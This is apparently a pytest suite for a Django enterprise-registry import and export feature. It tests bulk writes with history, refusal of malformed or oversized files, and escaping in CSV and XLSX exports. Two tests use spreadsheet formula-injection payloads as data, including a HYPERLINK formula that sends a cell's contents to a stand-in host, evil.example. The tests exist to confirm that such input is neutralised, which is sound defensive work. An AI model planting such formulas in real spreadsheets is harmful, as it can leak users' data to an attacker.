"""The registry import writes in bulk with history, and a corpus of bad files each gets a clear message and
leaves the database as it was; the page exports stream and stay escaped."""

import csv
import io
import tracemalloc
import unicodedata
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from enterprises import imports
from enterprises.imports import COLUMNS, enterprise_import
from enterprises.models import Enterprise
from enterprises.tests.factories import valid_tax_code

pytestmark = pytest.mark.django_db
HEADERS = [header for _f, header in COLUMNS]


def _row(n, **over):
    values = {"tax_code": valid_tax_code(2000 + n), "name": f"Cơ sở {n}", "address": f"Số {n}", "district": "001",
              "sector": "10", "industrial_area": "", "size": "nhỏ", "workers": 30, "revenue_vnd": 20_000_000_000,
              "capital_vnd": None, "status": "đang hoạt động", "phone": "", "email": "", "contact_person": ""}
    values.update(over)
    return [values[f] for f, _h in COLUMNS]


def _xlsx(rows, headers=HEADERS):
    book = openpyxl.Workbook()
    sheet = book.active
    if headers:
        sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("nhap.xlsx", buffer.getvalue())


def _cp1258(text):
    """Windows-1258 as Vietnamese Windows writes it: a base letter (maybe with one mark) plus a tone mark."""
    out = b""
    for char in text:
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            base, *marks = unicodedata.normalize("NFD", char)
            options = [(unicodedata.normalize("NFC", base + mark), marks[:i] + marks[i + 1:])
                       for i, mark in enumerate(marks)] + [(base, marks)]  # "ậ" = "â" + dot below; "ã" = a + ~
            for letter, rest in options:
                try:
                    out += letter.encode("cp1258") + "".join(rest).encode("cp1258")
                    break
                except UnicodeEncodeError:
                    continue
            else:
                raise
    return out


def _csv_bytes(rows, encoding="utf-8", headers=HEADERS):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    writer.writerows(rows)
    if encoding == "cp1258":
        return _cp1258(buffer.getvalue())
    return buffer.getvalue().encode(encoding, errors="replace")  # cp1252 has no Vietnamese letters: "?"


def _state():
    return Enterprise.objects.count(), Enterprise.history.count()


def _refused(upload, user):
    """The file is refused as a whole with a message; nothing is written."""
    before = _state()
    with pytest.raises(ValidationError) as exc:
        enterprise_import(upload=upload, dry_run=False, user=user)
    assert _state() == before
    return " ".join(exc.value.messages)


def _row_errors(upload, user):
    before = _state()
    result = enterprise_import(upload=upload, dry_run=False, user=user)
    assert not result["saved"] and result["errors"]
    assert _state() == before
    return result["errors"]


# --- bulk writes ---------------------------------------------------------------------------------------------


def test_an_import_creates_and_updates_in_bulk_with_a_history_row_for_each_by_the_importing_user(personas):
    user = personas["doit_staff"]
    assert enterprise_import(upload=_xlsx([_row(i) for i in range(3)]), dry_run=False, user=user)["created"] == 3
    again = enterprise_import(upload=_xlsx([_row(0, workers=40), _row(1), _row(3)]), dry_run=False, user=user)
    assert again["saved"] and (again["created"], again["updated"]) == (1, 2)
    first = Enterprise.objects.get(tax_code=valid_tax_code(2000))
    assert first.workers == 40
    history = list(first.history.order_by("history_date", "history_id"))
    assert [h.history_type for h in history] == ["+", "~"]
    assert {h.history_user for h in history} == {user}
    assert history[0].workers == 30 and history[1].workers == 40
    assert Enterprise.history.filter(tax_code=valid_tax_code(2003), history_type="+", history_user=user).exists()


def test_the_import_makes_about_as_many_queries_for_fifty_rows_as_for_five(personas):
    user = personas["doit_staff"]

    def queries(rows):
        with CaptureQueriesContext(connection) as captured:
            assert enterprise_import(upload=_xlsx(rows), dry_run=False, user=user)["saved"]
        return len(captured)

    queries([_row(i) for i in range(200, 202)])  # first call: caches (roles, content types)
    small = queries([_row(i) for i in range(5)])
    # the same, give or take a batch (SQLite splits an INSERT above 999 parameters)
    assert queries([_row(i) for i in range(100, 150)]) <= small + 2
    assert queries([_row(i, workers=31) for i in range(100, 150)]) <= small + 4


def test_a_row_breaking_a_constraint_is_reported_and_nothing_is_saved(personas):
    user = personas["doit_staff"]
    assert enterprise_import(upload=_xlsx([_row(0, status="đã ngừng hoạt động")]), dry_run=False, user=user)["saved"]
    errors = _row_errors(_xlsx([_row(1), _row(0)]), user)  # reopened without clearing its closing date
    assert [(e["row"], e["field"]) for e in errors] == [(3, "Tình trạng")]
    assert "ngày ngừng" in errors[0]["message"]
    assert not Enterprise.objects.filter(tax_code=valid_tax_code(2001)).exists()


def test_an_invalid_email_is_still_checked_like_full_clean(personas):
    errors = _row_errors(_xlsx([_row(0), _row(1, email="không-phải-thư")]), personas["doit_staff"])
    assert [(e["row"], e["field"]) for e in errors] == [(3, "Thư điện tử")]


# --- bad files -------------------------------------------------------------------------------------------------


def test_a_truncated_xlsx_is_refused_with_a_message(personas):
    data = _xlsx([_row(i) for i in range(20)]).read()
    message = _refused(SimpleUploadedFile("x.xlsx", data[: len(data) // 2]), personas["doit_staff"])
    assert "xlsx hợp lệ" in message


def test_a_zip_that_is_not_an_xlsx_is_refused_with_a_message(personas):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "không phải bảng tính")
    message = _refused(SimpleUploadedFile("x.xlsx", buffer.getvalue()), personas["doit_staff"])
    assert "xlsx hợp lệ" in message


@pytest.mark.parametrize("encoding", ["cp1258", "cp1252"])
def test_a_csv_in_a_windows_code_page_is_refused_with_a_hint_to_save_it_as_utf8(personas, encoding):
    name = "Cơ sở Đông Anh" if encoding == "cp1258" else "Café Crème"
    message = _refused(SimpleUploadedFile("x.csv", _csv_bytes([_row(0, name=name)], encoding)),
                       personas["doit_staff"])
    assert "UTF-8" in message and "Windows-1258" in message


def test_a_utf16_csv_with_a_byte_order_mark_is_read_tab_separated_or_not(personas):
    user = personas["doit_staff"]
    result = enterprise_import(upload=SimpleUploadedFile("x.csv", _csv_bytes([_row(0, name="Cơ sở Đông Anh")],
                                                                             "utf-16")), dry_run=False, user=user)
    assert result["saved"] and Enterprise.objects.get(tax_code=valid_tax_code(2000)).name == "Cơ sở Đông Anh"
    text = "\t".join(HEADERS) + "\n" + "\t".join("" if v is None else str(v) for v in _row(1)) + "\n"
    result = enterprise_import(upload=SimpleUploadedFile("x.txt", text.encode("utf-16")), dry_run=False, user=user)
    assert result["saved"] and result["created"] == 1


def test_formulas_in_cells_are_read_as_text_and_never_evaluated(personas):
    user = personas["doit_staff"]
    formula = '=HYPERLINK("http://evil.example","Bấm")'
    result = enterprise_import(upload=_xlsx([_row(0, name=formula)]), dry_run=False, user=user)
    assert result["saved"] and Enterprise.objects.get(tax_code=valid_tax_code(2000)).name == formula
    errors = _row_errors(_xlsx([_row(1, workers="=10*5")]), user)
    assert [(e["row"], e["field"]) for e in errors] == [(2, "Số lao động")] and "=10*5" in errors[0]["message"]


def test_an_empty_sheet_and_a_sheet_with_only_headers_are_refused(personas):
    assert "không có dữ liệu" in _refused(_xlsx([], headers=None), personas["doit_staff"])
    assert "không có dòng dữ liệu" in _refused(_xlsx([]), personas["doit_staff"])
    assert "không có dữ liệu" in _refused(SimpleUploadedFile("x.csv", b""), personas["doit_staff"])


def test_missing_columns_are_refused_and_extra_columns_are_ignored_and_listed(personas):
    user = personas["doit_staff"]
    without = [h for h in HEADERS if h != "Quy mô"]
    message = _refused(_xlsx([[v for v, h in zip(_row(0), HEADERS, strict=True) if h != "Quy mô"]],
                             headers=without), user)
    assert "Thiếu cột: Quy mô" in message
    result = enterprise_import(upload=_xlsx([[*_row(0), "ghi chú", "=1+1"]], headers=[*HEADERS, "Ghi chú", "Khác"]),
                               dry_run=False, user=user)
    assert result["saved"] and result["ignored_columns"] == ["Ghi chú", "Khác"]


def test_a_file_of_100000_rows_is_refused_above_the_row_limit_with_bounded_memory(personas):
    lines = [",".join(HEADERS)]
    lines += [f"{valid_tax_code(i)},Cơ sở {i},,001,10,,nhỏ,30,,,,,," for i in range(100_000)]
    data = ("\n".join(lines) + "\n").encode("utf-8")
    del lines
    tracemalloc.start()
    try:
        message = _refused(SimpleUploadedFile("x.csv", data), personas["doit_staff"])
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"{imports.IMPORT_MAX_ROWS:,}".replace(",", ".") in message
    assert peak < 12 * len(data)  # the text and at most IMPORT_MAX_ROWS parsed rows, not all 100,000


def test_an_xlsx_over_the_row_limit_is_refused_while_it_is_read(personas, monkeypatch):
    monkeypatch.setattr(imports, "IMPORT_MAX_ROWS", 5)
    assert "tối đa 5 dòng" in _refused(_xlsx([_row(i) for i in range(6)]), personas["doit_staff"])
    assert enterprise_import(upload=_xlsx([_row(i) for i in range(5)]), dry_run=False,
                             user=personas["doit_staff"])["created"] == 5


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_huge_single_cell_is_refused_naming_its_row_and_column(personas, kind):
    rows = [_row(0), _row(1, name="x" * 1_000_000)]
    upload = _xlsx(rows) if kind == "xlsx" else SimpleUploadedFile("x.csv", _csv_bytes(rows))
    errors = _row_errors(upload, personas["doit_staff"])
    assert [(e["row"], e["field"]) for e in errors] == [(3, "Tên cơ sở")]
    assert "tối đa 1000" in errors[0]["message"] and len(errors[0]["message"]) < 200  # xlsx keeps 32,767


def test_the_import_page_shows_a_bad_file_as_a_message_not_a_server_error(client_as):
    client = client_as("doit_staff")
    before = _state()
    response = client.post(reverse("enterprises:import"), {
        "file": SimpleUploadedFile("x.csv", _csv_bytes([_row(0, name="Café")], "cp1252")), "dry_run": ""})
    assert response.status_code == 200 and "UTF-8" in response.content.decode()
    assert _state() == before


# --- streaming exports -----------------------------------------------------------------------------------------


def test_the_page_exports_stream_escaped_cells_and_numbers(client_as, personas):
    user = personas["doit_staff"]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    enterprise_import(upload=_xlsx([_row(0, name=evil), _row(1, industrial_area="")]), dry_run=False, user=user)
    client = client_as("doit_staff")
    as_csv = client.get(reverse("enterprises:export") + "?format=csv")
    as_xlsx = client.get(reverse("enterprises:export") + "?format=xlsx")
    assert as_csv.streaming and as_xlsx.streaming
    text = b"".join(as_csv.streaming_content).decode("utf-8-sig")
    csv_cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS and csv_cells[: len(HEADERS)] == HEADERS
    assert "'" + evil in csv_cells and evil not in csv_cells
    cells = [c for row in rows for c in row]
    assert "'" + evil in cells and evil not in cells
    mine = next(row for row in rows if row[0] == valid_tax_code(2001))
    assert mine[3] == "001" and mine[6] == "nhỏ" and mine[7] == 30 and mine[10] == "đang hoạt động"
    assert len(rows) == Enterprise.objects.count() + 1
